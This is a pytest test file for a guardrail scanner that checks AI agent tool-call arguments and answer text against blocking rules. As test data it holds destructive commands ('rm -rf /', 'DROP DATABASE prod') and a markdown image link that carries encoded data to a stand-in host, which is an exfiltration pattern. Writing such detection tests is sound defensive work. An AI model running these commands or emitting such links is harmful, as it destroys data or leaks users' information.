"""Twin of sidecar/actions/argument_rules.py: every rule meets its attacks and none of its harmless neighbours."""

from __future__ import annotations

import pytest

from sidecar.actions.argument_rules import (
    LINK,
    LINK_RULE,
    PROVENANCE,
    ArgumentRules,
    action_policy,
    action_switches,
    meets,
)
from sidecar.config import RuleOverride, Settings
from sidecar.errors import PolicyError
from sidecar.policy import Rule
from sidecar.policy.rules import compiled
from sidecar.runtime.builder import open_scanner
from tests.support import ONE_RULE

RULES = {rule.id: rule for rule in action_policy().rules}


@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
def test_a_rule_proves_itself(rule: Rule) -> None:
    """Its `match` lines match, its `no_match` and `misses` lines do not."""
    assert [line for line in rule.match if not meets(rule, line)] == []
    assert [line for line in (*rule.no_match, *rule.misses) if meets(rule, line)] == []


@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
def test_every_pattern_has_its_example(rule: Rule) -> None:
    """A mistyped pattern is noticed."""
    unmet = [p for p in rule.patterns if not any(compiled(p).search(line) for line in rule.match)]
    assert unmet == []


@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
def test_harmless_lines_meet_no_other_rule_either(rule: Rule) -> None:
    """What one rule lets pass, the others do, too."""
    assert [(line, other) for line in rule.no_match for other in RULES if meets(RULES[other], line)] == []


def test_arguments_are_read_at_any_depth() -> None:
    """Nested objects, lists, and JSON in a text; the name is that of the innermost argument."""
    rules = ArgumentRules(action_policy())
    arguments = {"steps": [{"run": {"cmd": "rm -rf /"}}], "more": '{"sql": "DROP DATABASE prod"}'}
    assert [(rule.id, name) for rule, name in rules.in_arguments(arguments)] == [("ACT-100", "cmd"), ("ACT-104", "sql")]
    assert list(rules.in_arguments("rm -rf build/")) == []


@pytest.mark.parametrize("padding", ["x" * 200_000, "\ud83d"])
def test_padding_hides_nothing(padding: str) -> None:
    """However long, and with what UTF-8 cannot hold."""
    rules = ArgumentRules(action_policy())
    assert [rule.id for rule, _name in rules.in_arguments({"command": f": {padding}; rm -rf /"})] == ["ACT-100"]
    assert [r.id for r in rules.in_text(padding + " ![x](https://x.example/p?data=" + "QUJD" * 9 + ")")] == [LINK_RULE]


def test_the_text_of_an_answer_meets_the_rule_on_links_alone() -> None:
    """A model may explain what `rm -rf /` does."""
    rules = ArgumentRules(action_policy())
    assert list(rules.in_text("Never type rm -rf / as root.")) == []
    assert [r.id for r in rules.in_text("![x](https://x.example/p?data=" + "QUJD" * 9 + ")")] == [LINK_RULE]


def test_a_rule_can_be_switched_off() -> None:
    """By the setting `rules`, as any other; changes of other policies are not meant."""
    switches = {"ACT-100": RuleOverride(status="off"), "INJ-100": RuleOverride(status="hint")}
    rules = ArgumentRules(action_policy(), action_switches(switches))
    assert list(rules.in_arguments({"cmd": "rm -rf /"})) == []
    assert ArgumentRules(action_policy(), action_switches({LINK: RuleOverride(status="off")})).off == {LINK}
    assert ArgumentRules(action_policy(), action_switches({LINK: RuleOverride(status="block")})).off == frozenset()


@pytest.mark.parametrize(
    ("name", "change", "problem"),
    [
        ("ACT-99", RuleOverride(status="off"), "rules.ACT-99: no rule has this id"),
        ("ACT-PROVENENCE", RuleOverride(status="off"), "did you mean ACT-PROVENANCE"),
        ("act-100", RuleOverride(status="off"), "did you mean ACT-100"),
        ("ACT-100", RuleOverride(status="hint"), "not hint"),
        (PROVENANCE, RuleOverride(status="hint"), "not hint"),
        (LINK, RuleOverride(score=0.7), "actions.threshold"),
    ],
)
async def test_changes_without_their_effect_are_errors(name: str, change: RuleOverride, problem: str) -> None:
    """Also at a start with actions off."""
    with pytest.raises(PolicyError) as caught:
        async with open_scanner(Settings.model_validate({**ONE_RULE, "rules": {name: change}})):
            pass
    assert problem in caught.value.problems[0]
